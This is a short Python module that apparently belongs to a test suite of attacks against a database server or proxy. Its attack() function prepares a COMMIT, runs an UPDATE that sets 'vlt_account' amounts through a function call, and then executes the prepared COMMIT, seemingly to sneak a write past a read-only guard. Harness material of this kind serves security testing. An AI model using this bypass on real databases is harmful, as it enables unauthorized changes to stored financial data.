"""Writes by a function, and has EXECUTE run the COMMIT."""

from attacks.frames import SYNC, ask, parse, whole
from attacks.talking import Server

WANTS = "write"


def attack(server: Server) -> bytes:
    with server.login() as client:
        ask(client, parse(b"COMMIT", b"c"), SYNC)
        update = b"SELECT run_any('UPDATE vlt_account SET amount = 4711')"
        return ask(client, whole(b"BEGIN"), whole(update), whole(b"EXECUTE c"), SYNC)
